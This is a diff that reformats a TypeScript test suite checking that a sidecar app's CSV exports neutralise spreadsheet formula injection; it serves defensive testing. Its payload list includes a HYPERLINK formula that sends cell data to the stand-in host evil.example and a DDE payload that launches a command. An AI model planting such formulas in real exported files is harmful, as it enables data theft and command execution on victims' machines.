@@ -13,7 +13,17 @@ import { startTestServer, apiToken, bearer, type TestServer } from '../../sideca
 import { fullPath, type Endpoint } from '../../sidecar/src/http/registry.js';
 import { accessLogFile } from '../../sidecar/src/proxy/fragments/access-log.js';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-1+cmd', '@SUM(1+1)', '\t=1+1', '\r=1+1', ' =1+1', '\uff1d1+1', "=cmd|' /C calc'!A0"];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+1',
+  '-1+cmd',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '\uff1d1+1',
+  "=cmd|' /C calc'!A0",
+];
 /** What a spreadsheet would start evaluating (the leading characters it skips, then = + - @ or their full-width forms). */
 const LIVE = /^[\s\p{Cc}]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;
 
@@ -25,17 +35,34 @@ before(async () => {
 });
 after(async () => s.close());
 
-const api = (p: string, init: RequestInit & { json?: unknown } = {}) => s.req(`/api/v1${p}`, { ...init, headers: { ...h, ...(init.headers as Record<string, string> | undefined) } });
+const api = (p: string, init: RequestInit & { json?: unknown } = {}) =>
+  s.req(`/api/v1${p}`, { ...init, headers: { ...h, ...(init.headers as Record<string, string> | undefined) } });
 
 /** Each export's probe: put formula text where an outsider could, then return the CSV path to fetch. */
 const PROBES: Record<string, () => Promise<string>> = {
   '/api/v1/logs/access/export': async () => {
     // what Caddy writes to its access log for a visitor who chose their User-Agent, URI and Referer
-    const lines = FORMULAS.map((f, i) => JSON.stringify({
-      level: 'info', ts: Date.now() / 1000 + i, logger: 'http.log.access.gatehouse', msg: 'handled request',
-      request: { remote_ip: '127.0.0.1', client_ip: '192.0.2.7', proto: 'HTTP/1.1', method: 'GET', host: 'app.example.test:443', uri: `/${encodeURIComponent(f)}`, headers: { 'User-Agent': [f], Referer: [f] } },
-      bytes_read: 0, duration: 0.001, size: 1, status: 200,
-    })).join('\n');
+    const lines = FORMULAS.map((f, i) =>
+      JSON.stringify({
+        level: 'info',
+        ts: Date.now() / 1000 + i,
+        logger: 'http.log.access.gatehouse',
+        msg: 'handled request',
+        request: {
+          remote_ip: '127.0.0.1',
+          client_ip: '192.0.2.7',
+          proto: 'HTTP/1.1',
+          method: 'GET',
+          host: 'app.example.test:443',
+          uri: `/${encodeURIComponent(f)}`,
+          headers: { 'User-Agent': [f], Referer: [f] },
+        },
+        bytes_read: 0,
+        duration: 0.001,
+        size: 1,
+        status: 200,
+      }),
+    ).join('\n');
     fs.appendFileSync(accessLogFile(s.dataDir), `${lines}\n`);
     return '/api/v1/logs/access/export?format=csv';
   },
@@ -71,7 +98,11 @@ function takesCsv(e: Endpoint): boolean {
 test('every CSV export of the registry has a probe here', () => {
   const exports = s.endpoints.filter(takesCsv).map((e) => fullPath(e));
   assert.ok(exports.length >= 3, `the exports were found: ${exports.join(', ')}`);
-  assert.deepEqual(exports.filter((p) => !(p in PROBES)), [], 'exports without a probe');
+  assert.deepEqual(
+    exports.filter((p) => !(p in PROBES)),
+    [],
+    'exports without a probe',
+  );
 });
 
 for (const [path, probe] of Object.entries(PROBES)) {
